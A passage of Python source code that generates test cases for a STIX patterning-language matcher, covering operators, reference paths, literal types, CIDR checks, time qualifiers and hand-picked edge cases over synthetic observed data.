                    path = f"{root['type']}:{leaf.path}"
                    want = r.chance(0.5)
                    mode = r.random()
                    if mode < 0.07:
                        path = missing_path(r, root["type"], leaf.path)
                        lit = rhs_for(r, op, leaf, want)
                    elif mode < 0.15 and op not in ("LIKE", "MATCHES", "IN"):
                        lit = other_kind_literal(r, leaf.kind)
                    else:
                        lit = rhs_for(r, op, leaf, want)
                    notk = "NOT " if negated else ""
                    self.emit(fam, f"[{path} {notk}{op} {lit}]", w)
                    made += 1

    def gen_exists(self, n):
        r = self.r
        for negated in (False, True):
            fam = "exists-not" if negated else "exists"
            for _ in range(n):
                w, root = self.single_world()
                ls = leaves(w, root)
                leaf = r.choice(ls)
                path = leaf.path
                mode = r.random()
                if mode < 0.3:
                    path = missing_path(r, root["type"], path).split(":", 1)[1]
                elif mode < 0.45 and "." in path:
                    path = path.rsplit(".", 1)[0]  # an inner (dictionary / object) path
                typ = root["type"] if r.chance(0.9) else r.choice(["file", "url", "mutex"])
                notk = "NOT " if negated else ""
                self.emit(fam, f"[{notk}EXISTS {typ}:{path}]", w)

    def gen_paths(self, n):
        """Deep paths: through references, list indexes and [*], and references that do not resolve."""
        r = self.r
        made = 0
        while made < n:
            w, root = self.single_world(r.choice([build_email_message, build_network_traffic, build_process,
                                                  build_file, build_domain]), distractor_p=0.2)
            ls = [x for x in leaves(w, root) if x.via_ref or "[" in x.path]
            if not ls:
                continue
            leaf = r.choice(ls)
            op = r.choice(["=", "!=", "LIKE", "MATCHES", "IN", "NOT =", ">"])
            want = r.chance(0.55)
            base = op.replace("NOT ", "")
            if base in ("LIKE", "MATCHES") and leaf.kind not in ("str",):
                op = "="
                base = "="
            if base == ">" and leaf.kind in ("bool",):
                op = base = "="
            path = f"{root['type']}:{leaf.path}"
            if r.chance(0.1):
                path = missing_path(r, root["type"], leaf.path)
            self.emit("path", f"[{path} {op} {rhs_for(r, base, leaf, want)}]", w)
            made += 1
        # references into objects left out of object_refs, to objects of another type, dangling ids
        for i in range(n // 6):
            w = World(r)
            a = build_email_addr(w, hidden=True)
            b = build_email_addr(w)
            msg = w.add("email-message", {"is_multipart": False, "from_ref": a["id"],
                                          "to_refs": [a["id"], b["id"]], "subject": "hidden refs"})
            refs = [msg["id"], b["id"]]
            if i % 3 == 1:
                refs.append(a["id"])
            if i % 4 == 2:
                msg["cc_refs"] = [f"email-addr--{r.uuid4()}"]  # dangling
            w.observe(refs, 0)
            tgt = r.choice([a, b])
            pat = r.choice([
                f"[email-message:from_ref.value = {str_lit(a['value'])}]",
                f"[email-message:to_refs[*].value = {str_lit(tgt['value'])}]",
                f"[email-message:to_refs[0].value = {str_lit(tgt['value'])}]",
                f"[email-message:to_refs[1].value = {str_lit(tgt['value'])}]",
                f"[email-message:from_ref.value != {str_lit(b['value'])}]",
                "[EXISTS email-message:from_ref]",
                "[EXISTS email-message:cc_refs[0].value]",
                f"[email-message:cc_refs[*].value NOT = {str_lit(b['value'])}]",
                f"[email-message:from_ref.display_name LIKE '%']",
                "[email-message:subject = 'hidden refs' AND email-message:from_ref.value LIKE '%@%']",
            ])
            self.emit("path", pat, w)

    def gen_literals(self, n):
        """Every literal kind against every property kind, with = != < and IN."""
        r = self.r
        lits = ["'abc'", "'Zoë'", "'zoe\u0308'", "'\\'quoted\\''", "'back\\\\slash'", "''", "'\U0001F600'",
                "1", "0", "-1", "4112", "7.25", "-1.5", "0.0", "true", "false",
                "t'2026-03-01T12:00:00Z'", "t'2026-03-01T12:00:00.000Z'", "t'2026-03-01T12:00:00.123456Z'",
                "h'4d5a'", "h'4D5A'", "h''", "h'00'", "b'TVo='", "b'dGhpcyBpcyBhIHRlc3Q='", "b''"]
        made = 0
        while made < n:
            w, root = self.single_world(distractor_p=0.0)
            ls = leaves(w, root)
            leaf = r.choice(ls)
            op = r.choice(["=", "!=", "<", ">=", "IN", "NOT ="])
            lit = r.choice(lits)
            if op in ("<", ">=") and lit in ("true", "false"):
                lit = "1"
            if lit.startswith("t'") and leaf.kind == "str":
                lit = r.choice(lits[:16])
            if op == "IN":
                lit = "(" + lit + ")"
            self.emit("lit", f"[{root['type']}:{leaf.path} {op} {lit}]", w)
            made += 1
        # the spec's own binary example, and string constants against binary properties
        payloads = [b"this is a test", b"MZ\x90\x00", "café".encode("latin-1"), "café".encode("utf-8"),
                    b"\x00\xff", b""]
        for p in payloads:
            for lit in [str_lit("this is a test"), "'dGhpcyBpcyBhIHRlc3Q='", "b'" + base64.b64encode(p).decode() + "'",
                        "h'" + p.hex() + "'", str_lit(p.decode("latin-1")), "'café'", "'\u0100'"]:
                for op in ("=", "!=", ">"):
                    w = World(r)
                    a = w.add("artifact", {"mime_type": "application/octet-stream",
                                           "payload_bin": base64.b64encode(p).decode(),
                                           "x_magic_hex": p.hex()})
                    w.observe([a["id"]], 0)
                    prop = r.choice(["payload_bin", "x_magic_hex"])
                    self.emit("lit", f"[artifact:{prop} {op} {lit}]", w)

    def gen_cidr(self, n):
        """ISSUBSET / ISSUPERSET, with and without NOT, on IPv4 (and a few IPv6) values and CIDR constants."""
        r = self.r
        for i in range(n):
            op = ("ISSUBSET", "ISSUPERSET")[i % 2]
            negated = (i // 2) % 2 == 1
            w = World(r)
            if (i // 4) % 9 == 8:
                value = r.choice(IPV6[:5]) if op == "ISSUBSET" else r.choice(IPV6[5:])
                obj = w.add("ipv6-addr", {"value": value})
                const = r.choice(["2001:db8::/32", "2001:db8::/64", "fe80::/10", "2001:db8:1::/48", "::1/128"]
                                 if op == "ISSUBSET" else ["2001:db8::1", "2001:db8:abcd::/64", "2001:db9::1"])
            elif op == "ISSUBSET":
                value = rand_ipv4(r, cidr_chance=0.3)
                obj = w.add("ipv4-addr", {"value": value})
                const = cidr_around(r, value)
            else:
                value = rand_ipv4(r, cidr_chance=1.0)
                if value.endswith("/32") and r.chance(0.7):
                    value = value[:-3] + "/28"
                    value = cidr_around(r, value.split("/")[0] + "/28", exact=True)
                obj = w.add("ipv4-addr", {"value": value})
                const = inner_of(r, value)
            root = obj
            path = f"{obj['type']}:value"
            if r.chance(0.3):
                nt = w.add("network-traffic", {r.choice(["src_ref", "dst_ref"]): obj["id"], "protocols": ["tcp"]})
                root = nt
                path = "network-traffic:" + next(k for k in nt if k.endswith("_ref")) + ".value"
            if r.chance(0.2):
                other = w.add("ipv4-addr", {"value": rand_ipv4(r, cidr_chance=1.0)})
                w.observe(w.closure(root["id"]) + [other["id"]], 0)
            else:
                w.observe(w.closure(root["id"]), 0)
            notk = "NOT " if negated else ""
            self.emit(f"cidr-{op.lower()}" + ("-not" if negated else ""), f"[{path} {notk}{op} {str_lit(const)}]", w)

    def gen_bool(self, n):
        """AND / OR inside one observation expression: every comparison rooted at the same SCO."""
        r = self.r
        for _ in range(n):
            w = World(r)
            typ_builder = r.choice([build_file, build_network_traffic, build_process, build_email_message,
                                    build_domain])
            a = typ_builder(w)
            b = typ_builder(w)
            other = random_root(w)
            refs = []
            for x in (a, b, other):
                for y in w.closure(x["id"]):
                    if y not in refs:
                        refs.append(y)
            w.observe(refs, 0)
            la, lb, lo = leaves(w, a), leaves(w, b), leaves(w, other)
            if not la or not lb or not lo:
                continue

            def cmp_of(obj, ls, match):
                leaf = r.choice(ls)
                op = r.choice(["=", "!=", "IN", "NOT ="] + (["LIKE", "MATCHES"] if leaf.kind == "str" else []))
                base = op.replace("NOT ", "")
                return f"{obj['type']}:{leaf.path} {op} {rhs_for(r, base, leaf, match)}"

            c1 = cmp_of(a, la, True)
            c2 = cmp_of(r.choice([a, b]), r.choice([la, lb]), r.chance(0.6))
            c3 = cmp_of(other, lo, r.chance(0.5))
            shape = r.choice([
                "{c1} AND {c2}", "{c1} OR {c2}", "({c1} AND {c2}) OR {c3}", "{c1} AND ({c2} OR {c3})",
                "{c3} OR {c1} AND {c2}", "({c1}) AND (({c2}))", "{c1} AND {c2} AND {c3}",
            ])
            self.emit("bool", "[" + shape.format(c1=c1, c2=c2, c3=c3) + "]", w)

    # -- observations -------------------------------------------------------------------------------------------

    def timeline(self, n_obs, markers, spread=(0, 1, 2, 5, 10, 30, 60, 61, 120, 300), ranges=0.25,
                 numbers=(1, 1, 1, 2, 3)):
        """Observed-data objects at chosen times, each holding a random subset of marker SCOs."""
        r = self.r
        w = World(r)
        scos = {}
        for name, (typ, props) in markers.items():
            scos[name] = w.add(typ, dict(props))
        obs = []
        for _ in range(n_obs):
            t = r.choice(spread)
            end = t + r.choice([1, 5, 30]) if r.chance(ranges) else t
            held = [m for m in markers if r.chance(0.45)] or [r.choice(list(markers))]
            od = w.observe([scos[m]["id"] for m in held], t, end, n=r.choice(numbers))
            obs.append((od, held))
        return w, obs

    MARKERS = {
        "A": ("file", {"name": "alpha.exe", "size": 100}),
        "B": ("ipv4-addr", {"value": "198.51.100.7"}),
        "C": ("domain-name", {"value": "evil.example.com"}),
        "D": ("url", {"value": "http://evil.example.com/gate.php"}),
    }
    ATOMS = {
        "A": ["[file:name = 'alpha.exe']", "[file:size >= 100]", "[file:name LIKE 'alpha%']"],
        "B": ["[ipv4-addr:value = '198.51.100.7']", "[ipv4-addr:value ISSUBSET '198.51.100.0/24']"],
        "C": ["[domain-name:value = 'evil.example.com']", "[domain-name:value MATCHES 'evil']"],
        "D": ["[url:value LIKE 'http://evil%']", "[url:value = 'http://evil.example.com/gate.php']"],
        "X": ["[mutex:name = 'never-seen']", "[file:name = 'nothing.bin']"],
    }

    def atom(self, weights=(4, 3, 3, 3, 1)):
        r = self.r
        k = r.choices(list(self.ATOMS), weights)[0]
        return r.choice(self.ATOMS[k])

    def obs_expr(self, depth, allow_quals=True):
        r = self.r
        if depth == 0 or r.chance(0.3):
            e = self.atom()
            return self.qualify(e) if allow_quals and r.chance(0.15) else e
        op = r.choice(["AND", "OR", "FOLLOWEDBY"])
        left = self.obs_expr(depth - 1, allow_quals)
        right = self.obs_expr(depth - 1, allow_quals)
        e = f"{left} {op} {right}"
        if r.chance(0.5):
            e = f"({e})"
            if allow_quals and r.chance(0.3):
                e = self.qualify(e)
        return e

    def qualify(self, e):
        r = self.r
        if not (e.startswith("(") or e.startswith("[")) or not e.endswith((")", "]")):
            e = f"({e})"
        q = r.choice(["WITHIN", "REPEATS", "STARTSTOP"])
        return f"{e} {self.qualifier(q)}"

    def qualifier(self, q):
        r = self.r
        if q == "WITHIN":
            return f"WITHIN {r.choice(['1', '2', '5', '10', '30', '60', '0.5', '2.5', '59.9', '300'])} SECONDS"
        if q == "REPEATS":
            return f"REPEATS {r.choice([1, 2, 2, 3, 4])} TIMES"
        start = r.choice([-10, 0, 1, 5, 30, 60])
        stop = start + r.choice([1, 5, 30, 60, 600])
        return f"START t'{ts(start, r.choice([0, 3]))}' STOP t'{ts(stop, r.choice([0, 3]))}'"

    def gen_obs(self, n):
        r = self.r
        made = 0
        while made < n:
            w, _ = self.timeline(r.randint(1, 5), self.MARKERS, ranges=0.2)
            depth = r.choice([1, 1, 2, 2, 3])
            e = self.obs_expr(depth, allow_quals=False)
            if "AND" not in e and "OR" not in e and "FOLLOWEDBY" not in e:
                continue
            self.emit("obs", e, w)
            made += 1

    def gen_qualifiers(self, n_each):
        r = self.r
        # WITHIN: strict window; avoid exact ties here (the edge family has them)
        made = 0
        while made < n_each:
            w, obs = self.timeline(r.randint(1, 5), self.MARKERS, ranges=0.2)
            inner = self.obs_expr(r.choice([0, 1, 1, 2]), allow_quals=False)
            if not inner.startswith("(") or not inner.endswith(")"):
                inner = f"({inner})" if not (inner.startswith("[") and inner.count("[") == 1) else inner
            win = r.choice(["1", "2", "5", "10", "30", "60", "0.5", "2.5", "59.9", "300", "3600"])
            if tie(obs, float(win)):
                continue
            self.emit("within", f"{inner} WITHIN {win} SECONDS", w)
            made += 1
        # REPEATS: counts against several observed-data and number_observed
        made = 0
        while made < n_each:
            w, obs = self.timeline(r.randint(1, 4), self.MARKERS, ranges=0.15, numbers=(1, 1, 2, 3, 4))
            inner = self.obs_expr(r.choice([0, 0, 1]), allow_quals=False)
            if not (inner.startswith("[") and inner.count("[") == 1):
                inner = f"({inner})" if not inner.startswith("(") else inner
            self.emit("repeats", f"{inner} REPEATS {r.choice([1, 2, 2, 3, 3, 4, 5, 6])} TIMES", w)
            made += 1
        # START / STOP: half-open
        made = 0
        while made < n_each:
            w, obs = self.timeline(r.randint(1, 4), self.MARKERS, ranges=0.3,
                                   spread=(0, 1, 5, 10, 29, 30, 31, 60, 90))
            inner = self.obs_expr(r.choice([0, 0, 1]), allow_quals=False)
            if not (inner.startswith("[") and inner.count("[") == 1):
                inner = f"({inner})" if not inner.startswith("(") else inner
            start = r.choice([-10, 0, 1, 5, 10, 30, 31])
            stop = start + r.choice([0.001, 1, 5, 20, 30, 60, 600])
            if r.chance(0.05):
                stop = start - 1  # STOP before START: nothing can match
            fmt = r.choice([0, 3])
            q = f"START t'{ts(start, fmt)}' STOP t'{ts(stop, 3 if stop % 1 else fmt)}'"
            self.emit("startstop", f"{inner} {q}", w)
            made += 1
        # combinations: several qualifiers, nested
        made = 0
        while made < n_each:
            w, obs = self.timeline(r.randint(2, 5), self.MARKERS, ranges=0.2)
            e = self.obs_expr(r.choice([1, 2, 2, 3]), allow_quals=True)
            if "WITHIN" not in e and "REPEATS" not in e and "START" not in e:
                e = self.qualify(e)
            if "WITHIN" in e and tie(obs, None, e):
                continue
            self.emit("qual", e, w)
            made += 1


def tie(obs, win, expr=None):
    """True when some pair of observation times differs by exactly a WITHIN window used (boundary cases)."""
    wins = [win] if win is not None else []
    if expr is not None:
        for part in expr.split("WITHIN ")[1:]:
            wins.append(float(part.split(" ")[0]))
    times = set()
    for od, _ in obs:
        times.add(parse_ts(od["first_observed"]))
        times.add(parse_ts(od["last_observed"]))
    for a in times:
        for b in times:
            d = (b - a).total_seconds()
            if d > 0 and any(abs(d - x) < 1e-6 for x in wins):
                return True
    return False


BUILDER_BY_TYPE = {
    "file": build_file, "network-traffic": build_network_traffic, "email-message": build_email_message,
    "ipv4-addr": build_ipv4, "ipv6-addr": build_ipv6, "domain-name": build_domain, "url": build_url,
    "process": build_process, "artifact": build_artifact, "windows-registry-key": build_registry,
    "user-account": build_user, "software": build_software, "mutex": build_mutex, "autonomous-system": build_as,
    "x509-certificate": build_x509, "directory": build_directory, "email-addr": build_email_addr,
    "mac-addr": lambda w: w.add("mac-addr", {"value": "00:00:5e:00:53:00"}),
}


def missing_path(r, typ, path):
    choice = r.random()
    if choice < 0.4:
        return f"{typ}:{path}.x_absent" if not path.endswith("]") else f"{typ}:{path}.nope"
    if choice < 0.7:
        return f"{typ}:x_absent"
    if "[" in path and choice < 0.9:
        head = path.split("[", 1)[0]
        return f"{typ}:{head}[9]"
    return f"{typ}:{path.split('.', 1)[0]}[0]"


def rhs_for(r, op, leaf, want):
    if op in ("=", "==", "!=", "<>"):
        return eq_literal(r, leaf, want)
    if op in ("<", "<=", ">", ">="):
        return order_literal(r, leaf)
    if op == "IN":
        form = r.choice(["hexlit", "binlit", "strconv"])
        items = [eq_literal(r, leaf, want, form)]
        for _ in range(r.randint(0, 3)):
            items.append(eq_literal(r, leaf, False, form))
        r.shuffle(items)
        return "(" + ", ".join(items) + ")"
    if op == "LIKE":
        return like_literal(r, leaf, want)
    if op == "MATCHES":
        return matches_literal(r, leaf, want)
    raise ValueError(op)


def ip_to_int(ip):
    b = [int(x) for x in ip.split(".")]
    return (b[0] << 24) | (b[1] << 16) | (b[2] << 8) | b[3]


def int_to_ip(n):
    return ".".join(str((n >> s) & 255) for s in (24, 16, 8, 0))


def cidr_around(r, value, exact=False):
    """A CIDR constant that may or may not contain `value` (an address or a CIDR)."""
    ip, _, plen = value.partition("/")
    n = ip_to_int(ip)
    if exact:
        p = int(plen)
        return int_to_ip(n & (((1 << p) - 1) << (32 - p))) + f"/{p}"
    mode = r.random()
    if mode < 0.12:
        return value if "/" in value else value + "/32"  # identical
    p = r.choice([1, 8, 12, 16, 24, 25, 28, 30, 31, 32])
    if mode > 0.6:
        n ^= 1 << r.randrange(32 - p, 32) if p < 32 else 1  # flip a network bit: outside
    if mode > 0.85:
        n ^= 1 << r.randrange(0, max(1, 32 - p))  # and maybe a host bit too
    mask = ((1 << p) - 1) << (32 - p)
    nn = n & mask if r.chance(0.85) else n  # sometimes host bits set in the constant
    return int_to_ip(nn) + f"/{p}"


def inner_of(r, cidr):
    """An address or CIDR that may or may not lie inside `cidr`."""
    ip, _, plen = cidr.partition("/")
    p = int(plen)
    n = ip_to_int(ip) & (((1 << p) - 1) << (32 - p))
    mode = r.random()
    if mode < 0.12:
        return cidr
    host = r.getrandbits(32 - p) if p < 32 else 0
    if mode < 0.45:
        return int_to_ip(n | host)  # an address inside
    if mode < 0.7:
        q = r.randint(p, 32)
        m = n | host
        return int_to_ip(m & (((1 << q) - 1) << (32 - q))) + f"/{q}"  # a sub-network
    if mode < 0.85:
        q = r.randint(max(1, p - 8), max(1, p - 1))
        return int_to_ip(n & (((1 << q) - 1) << (32 - q))) + f"/{q}"  # a super-network: not inside
    return int_to_ip((n ^ (1 << (32 - p))) | host) if p > 0 else "0.0.0.1"  # outside


# ----------------------------------------------------------------------------------------------------------------
# Hand-written corner cases


def gen_edges(g):
    r = g.r

    def one(pattern, *objs_and_obs):
        w = World(r)
        ids = []
        for typ, props in objs_and_obs[0]:
            props = {k: (ids[int(v[1:])] if isinstance(v, str) and v[:1] == "@" else v) for k, v in props.items()}
            ids.append(w.add(typ, props)["id"])
        for spec in objs_and_obs[1] if len(objs_and_obs) > 1 else [dict(refs=list(range(len(ids))))]:
            w.observe([ids[i] for i in spec["refs"]], spec.get("t", 0), spec.get("end"), spec.get("n", 1))
        g.emit("edge", pattern, w)

    f = [("file", {"name": "line1\nline2.txt", "size": 10})]
    # MATCHES with DOTALL, LIKE across a newline, a trailing newline before $
    one("[file:name MATCHES '^line1.line2']", f)
    one("[file:name MATCHES 'line1.*txt$']", f)
    one("[file:name LIKE 'line1_line2.txt']", f)
    one("[file:name LIKE 'line1%']", f)
    one("[file:name MATCHES '^line1$']", f)
    one("[file:name MATCHES '(?m)^line2']", f)
    one("[file:name LIKE 'line1']", [("file", {"name": "line1\n"})])
    one("[file:name MATCHES '^line1$']", [("file", {"name": "line1\n"})])
    one("[file:name = 'line1']", [("file", {"name": "line1\n"})])
    # NFC for LIKE / MATCHES, none for =
    for val in ("caf\u00e9", "cafe\u0301"):
        for pat in ("[file:name LIKE 'caf\u00e9']", "[file:name LIKE 'cafe\u0301']", "[file:name = 'caf\u00e9']",
                    "[file:name MATCHES '^caf\u00e9$']", "[file:name MATCHES '^cafe\u0301$']",
                    "[file:name LIKE 'caf_']", "[file:name MATCHES '^caf.$']", "[file:name < 'cafz']",
                    "[file:name > 'cafe']"):
            one(pat, [("file", {"name": val})])
    # code point order, including astral characters (not UTF-16 order)
    for a, b in (("\uFFFD", "\U0001F600"), ("z", "\u00e9"), ("o\u0300", "oz"), ("ò", "z"), ("a", "aa"),
                 ("", "a"), ("Z", "a")):
        one(f"[file:name < {str_lit(b)}]", [("file", {"name": a})])
        one(f"[file:name > {str_lit(b)}]", [("file", {"name": a})])
    # WITHIN boundaries (spec: the newest observation must be < the oldest + window)
    two = [("file", {"name": "a"}), ("url", {"value": "http://x"})]
    for gap, win in ((10, "10"), (10, "10.0"), (9.999, "10"), (10.001, "10"), (0, "1"), (2.5, "2.5")):
        one(f"([file:name = 'a'] AND [url:value = 'http://x']) WITHIN {win} SECONDS", two,
            [dict(refs=[0], t=0), dict(refs=[1], t=gap)])
        one(f"([file:name = 'a'] FOLLOWEDBY [url:value = 'http://x']) WITHIN {win} SECONDS", two,
            [dict(refs=[0], t=0), dict(refs=[1], t=gap)])
    # START/STOP boundaries
    for t in (-0.001, 0, 0.001, 59.999, 60, 60.001):
        one("[file:name = 'a'] START t'2026-03-01T12:00:00Z' STOP t'2026-03-01T12:01:00Z'", two,
            [dict(refs=[0], t=t)])
    one("[file:name = 'a'] START t'2026-03-01T12:00:00Z' STOP t'2026-03-01T12:00:00Z'", two, [dict(refs=[0], t=0)])
    one("[file:name = 'a'] START t'2026-03-01T12:00:00Z' STOP t'2026-03-01T12:01:00Z'", two,
        [dict(refs=[0], t=-30, end=30)])
    one("[file:name = 'a'] START t'2026-03-01T12:00:00Z' STOP t'2026-03-01T12:01:00Z'", two,
        [dict(refs=[0], t=60, end=90)])
    one("[file:name = 'a'] START t'2026-03-01T12:00:00Z' STOP t'2026-03-01T12:01:00Z'", two,
        [dict(refs=[0], t=-30, end=0)])
    # REPEATS and number_observed; AND / FOLLOWEDBY on one observed-data seen several times
    for n in (1, 2, 3):
        for k in (1, 2, 3, 4):
            one(f"[file:name = 'a'] REPEATS {k} TIMES", two, [dict(refs=[0], n=n)])
    for n in (1, 2):
        one("[file:name = 'a'] AND [file:name = 'a']", two, [dict(refs=[0], n=n)])
        one("[file:name = 'a'] FOLLOWEDBY [file:name = 'a']", two, [dict(refs=[0], n=n)])
        one("[file:name = 'a'] AND [url:value = 'http://x']", two, [dict(refs=[0, 1], n=n)])
        one("[file:name = 'a'] OR [url:value = 'http://x']", two, [dict(refs=[0, 1], n=n)])
    # FOLLOWEDBY order with equal and reversed times
    for ta, tb in ((0, 0), (0, 1), (1, 0)):
        one("[file:name = 'a'] FOLLOWEDBY [url:value = 'http://x']", two,
            [dict(refs=[0], t=ta), dict(refs=[1], t=tb)])
    # the spec's same-root example (9.5)
    same_root = "[network-traffic:src_ref.value = '203.0.113.10' AND network-traffic:dst_ref.value = '198.51.100.58']"
    ips = [("ipv4-addr", {"value": "203.0.113.10"}), ("ipv4-addr", {"value": "198.51.100.58"})]
    one(same_root, ips + [("network-traffic", {"src_ref": "@0", "protocols": ["tcp"]}),
                          ("network-traffic", {"dst_ref": "@1", "protocols": ["tcp"]})], [dict(refs=[0, 1, 2, 3])])
    one(same_root, ips + [("network-traffic", {"src_ref": "@0", "dst_ref": "@1", "protocols": ["tcp"]})],
        [dict(refs=[0, 1, 2])])
    # missing path under every operator and NOT
    m = [("file", {"name": "x"})]
    for cmp in ("file:size != 1", "file:size NOT = 1", "file:size NOT < 1", "file:size NOT IN (1, 2)",
                "file:x_missing NOT LIKE 'a%'", "file:x_missing NOT MATCHES 'a'", "file:hashes.MD5 != 'x'",
                "file:name[0] = 'x'", "file:name.x = 'x'", "NOT EXISTS file:size", "EXISTS file:name",
                "NOT EXISTS file:name"):
        one(f"[{cmp}]", m)
    # type mismatches: = vs != vs NOT, order with NOT
    t = [("file", {"name": "x", "size": 10, "x_flag": True, "x_score": 1.0})]
    for cmp in ("file:size = '10'", "file:size != '10'", "file:size NOT = '10'", "file:size < '10'",
                "file:size NOT < '10'", "file:name > 1", "file:name NOT > 1", "file:x_flag = 1",
                "file:x_flag IN (1, 2)", "file:x_flag NOT IN (1, 2)", "file:x_flag != 1", "file:x_score = 1",
                "file:x_score IN (1)", "file:size IN (10.0)", "file:size = 10.0", "file:x_score < 2",
                "file:name LIKE 1", "file:size LIKE '1%'", "file:size MATCHES '^1'", "file:x_flag = true",
                "file:name = t'2026-03-01T12:00:00Z'"):
        try:
            one(f"[{cmp}]", t)
        except Exception:
            pass
    # timestamps: precision, fractional digits beyond microseconds
    for v in ("2026-03-01T12:00:00Z", "2026-03-01T12:00:00.000Z", "2026-03-01T12:00:00.000000001Z",
              "2026-03-01T12:00:00.1234567Z"):
        for lit in ("t'2026-03-01T12:00:00Z'", "t'2026-03-01T12:00:00.000001Z'", "t'2026-03-01T12:00:00.1234567Z'"):
            one(f"[file:ctime = {lit}]", [("file", {"ctime": v})])
    # binary order, _hex case insensitivity
    for v in ("00ff", "00FF", "ff", "0100"):
        for lit in ("h'00ff'", "h'ff'", "b'AP8='", "'\\u0000'"):
            pass
        one("[file:magic_number_hex = h'00ff']", [("file", {"magic_number_hex": v})])
        one("[file:magic_number_hex < h'ff']", [("file", {"magic_number_hex": v})])
        one("[file:magic_number_hex > h'00ff']", [("file", {"magic_number_hex": v})])
    # IN with mixed numbers, empty-ish sets, and bool against numbers
    for cmp in ("file:size IN (10, 11.5)", "file:size IN (9.99, 10.01)", "file:x_score IN (1, 2)",
                "file:name IN ('x')", "file:name NOT IN ('x', 'y')", "file:name IN ('X')"):
        one(f"[{cmp}]", t)
    # MATCHES constructs: classes, Unicode, case folding, things the regex crate cannot do
    mm = [("file", {"name": "Abc123.exe", "x_tags": ["ünï", "x"]})]
    for rx in ("^[A-Z][a-z]+\\\\d+\\\\.exe$", "(?i)^abc", "\\\\d{3}", "^\\\\w+\\\\.", "exe$|dll$", "^(?:Abc|Def)",
               "\\\\bAbc", "[[:alpha:]]+", "(a)\\\\1", "Abc(?=1)", "(?<!x)Abc", "^.{10}$", "\\\\p{L}+"):
        one(f"[file:name MATCHES '{rx}']", mm)
    one("[file:x_tags[*] MATCHES '^\\\\w+$']", mm)
    one("[file:x_tags[0] MATCHES '^.{3}$']", mm)
    one("[file:name MATCHES '(']", mm)
    one("[file:name MATCHES '[']", mm)
    # qualifier values the reference matcher refuses
    one("[file:name = 'a'] WITHIN 0 SECONDS", two, [dict(refs=[0])])
    one("[file:name = 'a'] REPEATS 0 TIMES", two, [dict(refs=[0])])
    one("[file:name = 'a'] WITHIN 0.0 SECONDS", two, [dict(refs=[0])])
    # heterogeneous sets
    one("[file:name IN ('x', 1)]", m)
    one("[file:size IN (1, true)]", t)
    # invalid patterns: both sides must refuse
    for bad in ("[file:name = 'x' and file:size = 1]", "[file:name = 'x'] WITHIN 5 MINUTES", "[file:name = x]",
                "file:name = 'x'", "[file:name = 'x'] START '2026-03-01T12:00:00Z' STOP '2026-03-01T12:01:00Z'",
                "[file:name = 'x'] REPEATS 2 TIMES REPEATS 3 TIMES", "[file:hashes.SHA-256 = 'x']", "[]",
                "[file:name = 'x'", "[file:name = 'a\\b']"):
        one(bad, m)
    # CIDR edge cases
    ip = [("ipv4-addr", {"value": "10.0.0.1"}), ("ipv4-addr", {"value": "10.0.0.0/8"}),
          ("ipv6-addr", {"value": "2001:db8::1"}), ("domain-name", {"value": "example.com"})]
    for cmp in ("ipv4-addr:value ISSUBSET '10.0.0.0/8'", "ipv4-addr:value ISSUBSET '10.0.0.1/32'",
                "ipv4-addr:value ISSUBSET '10.0.0.1'", "ipv4-addr:value ISSUBSET '0.0.0.0/0'",
                "ipv4-addr:value ISSUPERSET '10.0.0.1'", "ipv4-addr:value ISSUPERSET '10.0.0.0/8'",
                "ipv4-addr:value ISSUPERSET '10.0.0.0/7'", "ipv4-addr:value NOT ISSUBSET '10.0.0.0/8'",
                "ipv6-addr:value ISSUBSET '2001:db8::/32'", "ipv6-addr:value ISSUBSET '2001:db9::/32'",
                "ipv6-addr:value ISSUPERSET '2001:db8::1'", "ipv6-addr:value NOT ISSUBSET '2001:db8::/32'",
                "domain-name:value ISSUBSET '10.0.0.0/8'", "ipv4-addr:value ISSUBSET '10.0.0.0/33'",
                "ipv4-addr:value ISSUBSET 'not an ip'"):
        one(f"[{cmp}]", ip, [dict(refs=[0, 1, 2, 3])])
    # a reference that leaves the observation, and one to another type
    nt = [("ipv4-addr", {"value": "10.0.0.1"}), ("network-traffic", {"src_ref": "@0", "protocols": ["tcp"]}),
          ("domain-name", {"value": "example.com"}), ("network-traffic", {"src_ref": "@2", "protocols": ["tcp"]})]
    one("[network-traffic:src_ref.value = '10.0.0.1']", nt, [dict(refs=[1])])
    one("[network-traffic:src_ref.value = '10.0.0.1']", nt, [dict(refs=[0, 1])])
    one("[network-traffic:src_ref.value = 'example.com']", nt, [dict(refs=[2, 3])])
    one("[network-traffic:src_ref.value ISSUBSET '10.0.0.0/8']", nt, [dict(refs=[2, 3])])
    one("[network-traffic:src_ref.value ISSUBSET '10.0.0.0/8']", nt, [dict(refs=[0, 1, 2, 3])])


def gen_numbers(g, n):
    """Integers and floats at the edges of f64 and i64, against literals of both kinds."""
    r = g.r
    values = [9007199254740993, 9007199254740992, 2**63 - 1, 2**63, 2**64, -(2**63), 0, -0.0, 1e300, 0.1 + 0.2,
              -1, 1.5]
    lits = ["9007199254740992.0", "9007199254740992", "9007199254740993", "9223372036854775807",
            "9223372036854775808", "18446744073709551616", "-9223372036854775808", "0", "-0.0", "0.0",
            "0.30000000000000004", "0.3", "-1", "1.5", "-1.0"]
    for _ in range(n):
        v = r.choice(values)
        w = World(r)
        f = w.add("file", {"name": "n.bin", "size": v})
        w.observe([f["id"]], 0)
        op = r.choice(["=", "!=", "<", "<=", ">", ">=", "IN", "NOT ="])
        lit = r.choice(lits)
        if op == "IN":
            lit = f"({lit}, {r.choice(lits)})"
        g.emit("num", f"[file:size {op} {lit}]", w)


def gen_binary(g):
    """Binary properties under MATCHES, LIKE, = and ordering: bytes semantics, Latin-1 conversion, DOTALL."""
    payloads = [b"line\nbreak", b"\xff\xfe\x00", "caf\u00e9".encode("utf-8"), b"this is a test", b"MZ\x90\x00"]
    tests = [
        "MATCHES 'line.break'", "MATCHES '^\\\\xff\\\\xfe'", "MATCHES '^\u00ff\u00fe'", "MATCHES '\u00e9'",
        "MATCHES '\u00c3\u00a9'", "MATCHES '^\\\\w+'", "MATCHES '\u0100'", "MATCHES 'test$'", "MATCHES '^MZ'",
        "LIKE 'this%'", "LIKE 'MZ%'", "LIKE '%'", "= 'this is a test'", "!= '\u0100'", "= '\u0100'",
        "< '\u0100'", "NOT < '\u0100'", "> 'M'", "< h'ff'", "NOT MATCHES '\u0100'", "IN ('this is a test', 'x')",
        "IN (h'4d5a9000', h'00')",
    ]
    for payload in payloads:
        for t in tests:
            w = World(g.r)
            a = w.add("artifact", {"mime_type": "application/octet-stream",
                                   "payload_bin": base64.b64encode(payload).decode()})
            w.observe([a["id"]], 0)
            g.emit("bin", f"[artifact:payload_bin {t}]", w)


def gen_stress(g, n):
